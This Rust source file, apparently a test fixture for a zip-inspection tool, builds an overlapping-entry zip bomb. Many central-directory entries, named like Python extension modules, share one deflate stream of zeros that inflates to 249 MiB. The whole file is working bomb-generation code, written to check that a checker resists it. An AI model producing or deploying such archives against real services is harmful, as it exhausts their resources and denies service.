//! A zip bomb of overlapping entries, built here: one deflate stream of zeros that inflates to
//! 249 MiB (under Lambda's unzipped limit, so each entry alone is checked), and a central
//! directory of many entries that all point at it. About 250 KB on disk.

use flate2::{Compress, Compression, Crc, FlushCompress};

/// What each entry claims to unzip to: 249 MiB.
pub const CLAIMED: u64 = 249 << 20;
const CHUNK: usize = 1 << 20;

/// Raw deflate of `CLAIMED` zeros, and its CRC-32: one megabyte of zeros compressed and
/// flushed to a byte boundary, repeated (each copy refers only to itself), then an empty final
/// block.
fn deflated_zeros() -> (Vec<u8>, u32) {
    let zeros = vec![0u8; CHUNK];
    let mut compress = Compress::new(Compression::best(), false);
    let mut chunk = Vec::with_capacity(CHUNK);
    compress
        .compress_vec(&zeros, &mut chunk, FlushCompress::Sync)
        .unwrap();
    assert_eq!(compress.total_in(), CHUNK as u64, "the whole chunk went in");
    let copies = usize::try_from(CLAIMED).unwrap() / CHUNK;
    let mut stream = chunk.repeat(copies);
    // BFINAL=1, fixed Huffman, end of block: 10 bits.
    stream.extend_from_slice(&[0x03, 0x00]);
    let mut one = Crc::new();
    one.update(&zeros);
    let mut crc = Crc::new();
    for _ in 0..copies {
        crc.combine(&one);
    }
    (stream, crc.sum())
}

/// The name of entry `i`: an extension module, so that `inspect` inflates it to check it.
pub fn member(i: usize) -> String {
    format!("python/lib/python3.12/site-packages/app/_m{i}.cpython-312-x86_64-linux-gnu.so")
}

/// A zip of `entries` central-directory entries that all share one local header and its
/// deflate stream.
pub fn overlapping_zip(entries: usize) -> Vec<u8> {
    let (stream, crc) = deflated_zeros();
    let size = u32::try_from(CLAIMED).unwrap();
    let compressed = u32::try_from(stream.len()).unwrap();
    let first = member(0);
    let mut out = Vec::new();
    out.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
    for v in [20u16, 0, 8, 0, 0] {
        out.extend_from_slice(&v.to_le_bytes());
    }
    for v in [crc, compressed, size] {
        out.extend_from_slice(&v.to_le_bytes());
    }
    out.extend_from_slice(&u16::try_from(first.len()).unwrap().to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out.extend_from_slice(first.as_bytes());
    out.extend_from_slice(&stream);
    let directory_at = u32::try_from(out.len()).unwrap();
    let mut directory = Vec::new();
    for i in 0..entries {
        let name = member(i);
        directory.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        // Made by Unix (3), zip 2.0; needs 2.0; no flags; deflate; no time.
        for v in [0x0314u16, 20, 0, 8, 0, 0] {
            directory.extend_from_slice(&v.to_le_bytes());
        }
        for v in [crc, compressed, size] {
            directory.extend_from_slice(&v.to_le_bytes());
        }
        for v in [u16::try_from(name.len()).unwrap(), 0, 0, 0, 0] {
            directory.extend_from_slice(&v.to_le_bytes());
        }
        directory.extend_from_slice(&(0o100_644u32 << 16).to_le_bytes());
        directory.extend_from_slice(&0u32.to_le_bytes()); // every entry at offset 0
        directory.extend_from_slice(name.as_bytes());
    }
    let count = u16::try_from(entries).unwrap();
    out.extend_from_slice(&directory);
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    for v in [0u16, 0, count, count] {
        out.extend_from_slice(&v.to_le_bytes());
    }
    out.extend_from_slice(&u32::try_from(directory.len()).unwrap().to_le_bytes());
    out.extend_from_slice(&directory_at.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}
